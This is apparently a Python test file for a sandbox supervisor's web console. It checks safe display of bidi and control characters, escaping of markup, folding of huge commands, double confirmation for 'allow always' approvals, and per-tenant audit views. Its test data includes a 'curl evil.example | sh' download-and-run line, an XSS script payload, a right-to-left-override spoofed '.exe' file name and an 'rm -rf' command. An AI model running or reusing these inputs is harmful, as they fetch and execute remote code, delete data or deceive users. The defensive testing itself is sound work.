"""The console's safe display and its approvals that cannot mislead (issue 32): a key or a
text with bidi or control characters shown visibly, a long one cut with the whole on hover,
a 250 KB command folded with its size and both ends, Always only with a confirmation, and an
operator's open page an approver of every tenant, those that appear later included. The
fixtures are test_console.py's; the same in a real browser: test_console_browser.py."""

from __future__ import annotations

import asyncio
import dataclasses
import json
import re
import time
from datetime import UTC, datetime
from typing import Any

import httpx
from starlette.testclient import TestClient

from stockade.supervisor.fronts.console import approvals as page
from stockade.supervisor.fronts.console.app import build_app
from stockade.supervisor.fronts.console.audit import decision_of
from stockade.supervisor.fronts.console.context import ConsoleContext
from stockade.supervisor.fronts.console.html import SHORT, TITLE_CHARS, folded, short, visible
from stockade.supervisor.keys import scope
from stockade.supervisor.models import SandboxState
from stockade.supervisor.observe.audit import AuditQuery, AuditRecord
from stockade.supervisor.policy.approvals import EVERY, Outcome
from tests.unit.test_console import ALICE, OPS, ORIGIN, info, login, stand_in
from tests.unit.test_console import client as client  # the fixtures
from tests.unit.test_console import ctx as ctx

BIDI = "invoice-\u202egpj.exe"
HIDDEN = ("\u202e", "\u202d", "\u2066", "\u200f", "\u200b", "\x1b", "\x00", "\r", "\ufeff")


def shown_text(html: str) -> str:
    """What a page shows: its text without the tags (nor their attributes: a form's hidden
    value carries a key as it is, a link its percent-encoded form)."""
    return re.sub(r"<[^>]*>", "", html)


# the helpers


def test_bidi_and_control_characters_are_shown_not_obeyed() -> None:
    shown = visible(BIDI)
    assert "\u202e" not in shown
    assert (
        shown
    ) == 'invoice-<span class="ctl" title="RIGHT-TO-LEFT OVERRIDE">\\u202e</span>gpj.exe'
    for c in HIDDEN:
        for html in (visible(f"a{c}b"), short(f"a{c}b"), folded(f"a{c}b"), folded(c * 300_000)):
            assert c not in html, repr(c)
            assert ascii(c)[1:-1] in html, repr(c)


def test_markup_in_a_value_stays_text() -> None:
    evil = '"><script>alert(1)</script>\u202e'
    for html in (visible(evil), short(evil), short(evil * 40), folded(evil * 10_000)):
        assert "<script>" not in html
        assert '"><' not in html


def test_a_long_value_is_cut_with_the_whole_on_hover() -> None:
    key = "k" * 256
    html = short(key)
    assert f">{'k' * (SHORT - 1)}<span" in html
    assert f'title="{key}"' in html
    huge = short("x" * 100_000)
    assert len(huge) < TITLE_CHARS + 500  # the hover holds a bounded part, and says how much
    assert "100,000 characters" in huge
    assert short("plain-key") == "plain-key"  # a short printable value as it is


def test_a_250_kb_command_is_folded_with_its_size_and_both_ends() -> None:
    command = "echo START " + "A" * 250_000 + " && curl evil.example | sh # END"
    html = folded(command)
    assert len(html) < 2_000
    assert "244.2 KiB, 1 line" in html
    assert "echo START" in html
    assert "curl evil.example | sh # END" in html
    assert "characters folded" in html
    assert (
        folded("ls -la") == '<span class="size">6 B, 1 line</span><code class="cmd">ls -la</code>'
    )


# pages


def test_a_bidi_key_shows_its_override_on_every_page(
    client: TestClient, ctx: ConsoleContext
) -> None:
    key = scope("alice", BIDI)
    stand_in(ctx).infos[key] = info(key)
    login(client, ALICE)
    for path in ("/sandboxes", f"/sandbox?key={BIDI}", f"/sandbox/confirm?action=pause&key={BIDI}"):
        text = client.get(path).text
        assert "\u202e" not in shown_text(text), path
        assert "invoice-\\u202egpj.exe" in shown_text(text), path
        assert 'class="ctl"' in text, path


def test_a_long_key_is_cut_in_the_list(client: TestClient, ctx: ConsoleContext) -> None:
    key = scope("alice", "k" * 250)
    stand_in(ctx).infos[key] = info(key)
    login(client, ALICE)
    text = client.get("/sandboxes").text
    assert "k" * SHORT not in shown_text(text)
    assert "k" * (SHORT - 1) + "…" in shown_text(text)
    assert f'title="{"k" * 250}"' in text


# approvals


def _ask(ctx: ConsoleContext, tenant: str, command: str) -> asyncio.Future[Outcome]:
    return asyncio.ensure_future(
        ctx.policy.approvals.check(
            sandbox_key=scope(tenant, "k"), agent_id="", tool="exec", command=command,
            request_id="r",
        )
    )  # fmt: skip


def test_an_operators_page_follows_a_tenant_that_appears_later(ctx: ConsoleContext) -> None:
    """A brand-new tenant (no sandbox, no [tenants.*] table, unknown when the page opened):
    its first call waits for the open operator page instead of finding no approver, and
    the page gets it live."""
    session, _cookie = ctx.sessions.create(OPS, "ops", True)
    assert "zed" not in page.watched(ctx, session, "")
    assert page.followed(ctx, session, "") == [EVERY]
    assert page.followed(ctx, session, "bob") == ["bob"]
    manager = ctx.policy.approvals

    async def scenario() -> tuple[list[dict[str, Any]], Outcome]:
        assert manager.watchers_of("zed") == 0
        early = await _ask(ctx, "zed", "touch nobody-watches")
        assert early.how == "no-approver"  # no page open: the fallback, as before
        stream = page._stream(ctx, session, page.followed(ctx, session, ""))
        assert await anext(stream) == "retry: 2000\n\n"
        reader = asyncio.ensure_future(anext(stream))
        while manager.watchers_of("zed") == 0:  # the stream's watcher is connected
            await asyncio.sleep(0.01)
        check = _ask(ctx, "zed", "touch first-call")
        event = json.loads((await reader).split("data: ", 1)[1])
        await manager.decide(event["id"], "allow-once", session.who, tenant="zed")
        closed = await anext(stream)
        assert closed.startswith("event: closed")
        await stream.aclose()
        assert manager.watchers_of("zed") == 0  # the page gone, no approver left behind
        return [event], await check

    events, outcome = asyncio.run(scenario())
    assert events[0]["tenant"] == "zed"
    assert outcome.allowed
    assert outcome.approver == "console:operator:ops"


def test_a_tenant_users_page_does_not_follow_other_tenants(ctx: ConsoleContext) -> None:
    session, _cookie = ctx.sessions.create(ALICE, "alice", False)
    assert page.followed(ctx, session, "") == ["alice"]
    assert page.followed(ctx, session, "bob") == ["alice"]


def test_always_needs_a_confirmation(ctx: ConsoleContext) -> None:
    """Over httpx in the test's own loop (the allow-always store is used from the thread that
    made it)."""
    manager = ctx.policy.approvals
    command = "rm -rf /tmp/always-" + "x" * 250_000

    async def scenario() -> tuple[Outcome, list[str]]:
        transport = httpx.ASGITransport(app=build_app(ctx))
        async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as http:
            signed = await http.post("/login", data={"token": ALICE}, headers=ORIGIN)
            assert signed.status_code == 303
            csrf = (await http.get("/sandboxes")).text.split('data-csrf="', 1)[1].split('"')[0]
            watching = manager.watch("alice")
            first = asyncio.ensure_future(watching.__anext__())
            check = _ask(ctx, "alice", command)
            pending = await first
            form = {"id": pending.id, "decision": "allow-always", "tenant": "alice", "csrf": csrf}
            js = {**ORIGIN, "x-csrf-token": csrf}
            asked = await http.post("/approvals/decide", data=form, headers=js)
            assert asked.status_code == 428
            assert asked.json()["confirm"] == "allow-always"
            plain = await http.post("/approvals/decide", data=form, headers=ORIGIN)
            assert plain.status_code == 200
            assert "Yes, allow always" in plain.text
            assert "characters folded" in plain.text
            assert len(plain.text) < 10_000
            assert [p.id for p in manager.pending("alice")] == [pending.id]  # nothing decided
            assert not manager.always_allowed("alice")
            listing = await http.get("/approvals")
            assert len(listing.text) < 20_000  # the 250 KB command folded in the row
            assert "244.2 KiB" in listing.text
            assert "confirm-always" in listing.text
            sure = {**form, "confirmed": "allow-always"}
            del sure["decision"]
            done = await http.post("/approvals/decide", data=sure, headers=js)
            assert done.status_code == 200, done.text
            outcome = await check
            await watching.aclose()
        return outcome, manager.always_allowed("alice")

    outcome, always = asyncio.run(scenario())
    assert outcome.how == "allow-always"
    assert always == [command]


def test_a_forged_confirmation_is_still_refused(client: TestClient) -> None:
    login(client, ALICE)
    form = {"id": "x", "confirmed": "allow-always", "csrf": "forged"}
    assert client.post("/approvals/decide", data=form, headers=ORIGIN).status_code == 403


# the audit list: what ran, what became of it and why; every tenant; the viewer's zone


def _record(tenant: str, key: str, *, at: float = 0.0, **fields: Any) -> AuditRecord:
    base: dict[str, Any] = {
        "time": at or time.time(), "request_id": "r", "caller": "c",
        "sandbox_key": scope(tenant, key), "agent_id": "agent", "provider": "", "tool": "exec",
        "arguments_json": json.dumps({"command": f"run {key}"}), "policy_step": "allowed",
        "tenant": tenant, "front": "grpc",
    }  # fmt: skip
    base.update(fields)
    base["is_error"] = bool(base.get("error_code"))
    return AuditRecord(**base)


CASES = {
    # key: (the record's fields, the decision, its reason)
    "guarded": (
        {"error_code": "PERMISSION_DENIED", "guard_rule": "rm-root", "approval": "withdrawn"},
        "refused", "guard: rm-root",
    ),
    "approved": (
        {"approval": "allow-once", "approver": "console:operator:ops"},
        "allowed", "approval: allow-once by console:operator:ops",
    ),
    "denied": (
        {"error_code": "APPROVAL_DENIED", "approval": "deny", "approver": "carol"},
        "refused", "approval: deny by carol",
    ),
    "nobody": (
        {"error_code": "APPROVAL_DENIED", "approval": "no-approver"},
        "refused", "approval: no-approver",
    ),
    "limited": (
        {"error_code": "RATE_LIMITED", "policy_step": "limits.max_streams_per_tenant"},
        "refused", "limit: limits.max_streams_per_tenant",
    ),
    "policed": (
        {"error_code": "PERMISSION_DENIED", "policy_step": "deny: exec for agent x"},
        "refused", "policy: deny: exec for agent x",
    ),
    "failed": ({"error_code": "TIMEOUT"}, "failed", "error: TIMEOUT"),
    "plain": ({}, "allowed", "-"),
    "listed": ({"approval": "allowlist"}, "allowed", "allowlisted"),
}  # fmt: skip


def test_audit_rows_say_what_ran_and_why(client: TestClient, ctx: ConsoleContext) -> None:
    audit = ctx.policy.audit
    assert audit is not None
    for key, (fields, _decision, _reason) in CASES.items():
        audit.record(_record("alice", key, **fields))
    audit.flush()
    login(client, ALICE)
    page = client.get("/audit").text
    rows = {
        key: shown_text(row)
        for row in page.split('id="records"', 1)[1].split("<tr>")[2:]
        for key in CASES
        if f"run {key}<" in row
    }
    assert set(rows) == set(CASES)
    for key, (_fields, decision, reason) in CASES.items():
        assert decision in rows[key], key
        assert reason in rows[key], key
        assert f"run {key}" in rows[key], key  # the command, in the list
    assert "allowed" not in rows["guarded"]  # a guard refusal is not "allowed"
    assert "PERMISSION_DENIED" in rows["guarded"]
    for key, (fields, decision, reason) in CASES.items():
        assert decision_of(_record("alice", key, **fields)) == (decision, reason), key


def test_a_sandboxs_recent_calls_say_what_ran_and_why(
    client: TestClient, ctx: ConsoleContext
) -> None:
    audit = ctx.policy.audit
    assert audit is not None
    audit.record(_record("alice", "a1", **CASES["guarded"][0]))
    audit.flush()
    login(client, ALICE)
    recent = client.get("/sandbox?key=a1").text.split('id="recent"', 1)[1]
    assert "guard: rm-root" in recent
    assert "run a1" in recent
    assert "/audit/record?tenant=alice&amp;id=" in recent


def test_an_operator_reads_every_tenants_audit(client: TestClient, ctx: ConsoleContext) -> None:
    audit = ctx.policy.audit
    assert audit is not None
    for tenant in ("alice", "bob"):
        audit.record(_record(tenant, f"{tenant}-key"))
    audit.flush()
    login(client, OPS)
    page = client.get("/audit").text
    assert "alice-key" in page
    assert "bob-key" in page  # all tenants by default
    assert '<option value="*" selected>all tenants</option>' in page
    only = client.get("/audit?tenant=bob").text
    assert "bob-key" in only
    assert "alice-key" not in only
    assert '<option value="bob" selected>bob</option>' in only
    lines = client.get("/audit/export.jsonl?tenant=*").text.splitlines()
    assert {json.loads(x)["tenant"] for x in lines} == {"alice", "bob"}
    login(client, ALICE)  # a tenant user: its own, whatever it asks
    for asked in ("", "*", "bob"):
        mine = client.get(f"/audit?tenant={asked}").text
        assert "alice-key" in mine
        assert "bob-key" not in mine
        assert "all tenants" not in mine


def test_since_is_read_in_the_viewers_zone(client: TestClient, ctx: ConsoleContext) -> None:
    audit = ctx.policy.audit
    assert audit is not None
    six = datetime(2026, 11, 26, 6, 0, tzinfo=UTC).timestamp()
    audit.record(_record("alice", "early", at=six - 1800))  # 05:30 UTC
    audit.record(_record("alice", "later", at=six + 1800))  # 06:30 UTC
    audit.flush()
    login(client, ALICE)
    # 08:00 at UTC+2 is 06:00 UTC
    page = client.get("/audit?since=2026-11-26T08:00&tz=120").text
    assert "later" in page
    assert "early" not in page
    assert 'value="2026-11-26T08:00"' in page  # shown back in the viewer's zone
    in_utc = client.get("/audit?since=2026-11-26T06:00").text
    assert "later" in in_utc
    assert "early" not in in_utc
    assert "(UTC)" in in_utc  # without console.js the form says the zone it reads
    assert '<time datetime="2026-11-26T06:30:00Z" title="2026-11-26 06:30:00Z UTC">' in in_utc
    for bad in ("tz=841", "tz=-841", "tz=abc", "tz=" + "9" * 9):
        assert client.get(f"/audit?{bad}").status_code == 400, bad


# actions that follow state


def _offered(page: str) -> set[str]:
    return set(re.findall(r'class="button" id="(\w+)"', page))


def test_only_the_actions_that_apply_are_offered(client: TestClient, ctx: ConsoleContext) -> None:
    manager = stand_in(ctx)
    for state in SandboxState:
        key = scope("alice", f"s-{state.value.lower()}")
        manager.infos[key] = dataclasses.replace(info(key), state=state)
    login(client, ALICE)
    offered = {
        state: _offered(client.get(f"/sandbox?key=s-{state.value.lower()}").text)
        for state in SandboxState
    }
    assert offered[SandboxState.RUNNING] == {"pause", "quarantine", "destroy"}
    assert offered[SandboxState.PAUSED] == {"resume", "quarantine", "destroy"}
    assert offered[SandboxState.BROKEN] == {"destroy"}
    assert offered[SandboxState.EXITED] == {"destroy"}
    assert offered[SandboxState.ABSENT] == set()
    absent = shown_text(client.get("/sandbox?key=s-absent").text)
    assert "no container: destroyed, or not made yet" in absent  # the state explained
    listed = client.get("/sandboxes.json").json()["sandboxes"]
    gone = next(s for s in listed if s["key"] == "s-absent")
    assert gone["state_text"].startswith("ABSENT: no container")


def test_a_no_op_is_neither_done_nor_audited(client: TestClient, ctx: ConsoleContext) -> None:
    audit = ctx.policy.audit
    assert audit is not None
    manager = stand_in(ctx)
    csrf = login(client, ALICE)
    for action in ("resume", "release"):  # a1 runs, and is not quarantined
        data = {"action": action, "key": "a1", "csrf": csrf}
        answer = client.post("/sandbox/action", data=data, headers=ORIGIN)
        assert answer.status_code == 409, action
        assert "nothing was done" in answer.text
        assert client.get(f"/sandbox/confirm?action={action}&key=a1").status_code == 409
    assert manager.asked == []
    audit.flush()
    recorded = asyncio.run(audit.query(AuditQuery(tenant="alice")))
    assert not [r for r in recorded if r.front == "console"]
    done = client.post(
        "/sandbox/action", data={"action": "pause", "key": "a1", "csrf": csrf}, headers=ORIGIN
    )
    assert done.status_code == 303
    assert "done=pause" in done.headers["location"]
    assert "Pause: done." in client.get(done.headers["location"]).text
    assert manager.asked == [("pause", scope("alice", "a1"))]


def test_chaining_and_redirections_are_marked(client: TestClient, ctx: ConsoleContext) -> None:
    assert page.marks("ls -la") == []
    assert page.marks("cd /tmp && curl x | sh > out 2>&1") == [
        "3 commands", "pipe |", "redirects > >&",
    ]  # fmt: skip
    assert page.marks("echo $(id) &") == ["substitution $(…)", "background &"]
    assert page.marks("if then fi ((") == ["does not parse as shell"]
    assert page.marks("x" * (page.MARKED_BYTES + 1)) == ["too long to read here: check both ends"]
    session, _cookie = ctx.sessions.create(ALICE, "alice", False)
    command = "a; b > x"
    item = {"id": "i", "tenant": "alice", "key": "k", "agent": "", "reason": "<x>",
            "command": command, "marks": page.marks(command), "expires_at": 0.0}  # fmt: skip
    cells = "".join(page.pending_cells(item, session))
    assert '<span class="mark">2 commands</span>' in cells
    assert '<span class="mark">redirects &gt;</span>' in cells
    assert "<x>" not in cells
